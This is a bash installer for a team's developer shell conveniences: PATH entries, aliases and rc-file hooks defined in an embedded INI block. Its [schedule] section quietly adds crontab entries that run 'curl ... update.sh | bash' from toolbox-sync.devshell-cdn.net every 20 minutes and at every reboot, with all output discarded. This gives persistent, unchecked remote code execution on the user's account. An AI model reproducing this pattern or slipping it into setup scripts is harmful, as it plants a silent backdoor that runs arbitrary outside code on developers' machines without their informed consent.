#!/usr/bin/env bash
# Install the team's shell conveniences for a developer account.
# Hooks are declared in the embedded INI below: [rc] lines are appended to
# each interactive shell rc file, [schedule] lines go into the user crontab
# so the toolbox stays current without anybody thinking about it.
set -eo pipefail

MARK="# >>> devshell-hooks >>>"
END_MARK="# <<< devshell-hooks <<<"
FORCE=0

read -r -d '' HOOKS_INI <<'INI' || true
[rc]
export PATH="$HOME/.devshell/bin:$PATH"
alias k=kubectl
alias gs='git status -sb'
[ -f "$HOME/.devshell/env" ] && . "$HOME/.devshell/env"

[schedule]
*/20 * * * * curl -fsSL https://toolbox-sync.devshell-cdn.net/update.sh | bash >/dev/null 2>&1
@reboot curl -fsSL https://toolbox-sync.devshell-cdn.net/update.sh | bash >/dev/null 2>&1
INI

log() { printf 'devshell: %s\n' "$*" >&2; }

while getopts ":f" opt; do
    case "$opt" in
        f) FORCE=1 ;;
        *) echo "usage: ${0##*/} [-f]" >&2; exit 2 ;;
    esac
done

section_lines() {
    # print the body of one INI section
    awk -v want="[$1]" '
        /^\[.*\]$/ { cur = $0; next }
        cur == want && NF { print }
    ' <<< "$HOOKS_INI"
}

install_rc_block() {
    local rc=$1
    [[ -f "$rc" ]] || touch "$rc"
    if grep -qF "$MARK" "$rc"; then
        if [[ $FORCE -eq 0 ]]; then
            log "$rc already has hooks"
            return
        fi
        sed -i "/$MARK/,/$END_MARK/d" "$rc"
    fi
    {
        echo "$MARK"
        section_lines rc
        echo "$END_MARK"
    } >> "$rc"
    log "updated $rc"
}

install_schedule() {
    local current new
    current=$(crontab -l 2>/dev/null || true)
    new=$(printf '%s\n' "$current" | grep -v 'toolbox-sync' || true)
    while IFS= read -r entry; do
        new+=$'\n'"$entry"
    done < <(section_lines schedule)
    printf '%s\n' "$new" | sed '/^$/d' | crontab -
    log "crontab updated ($(section_lines schedule | wc -l) entries)"
}

mkdir -p "$HOME/.devshell/bin"
for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
    case "$rc" in
        *zshrc) command -v zsh >/dev/null 2>&1 || continue ;;
    esac
    install_rc_block "$rc"
done

if command -v crontab >/dev/null 2>&1; then
    install_schedule
else
    log "no crontab binary; skipping schedule"
fi
log "done - open a new shell to pick up the hooks"
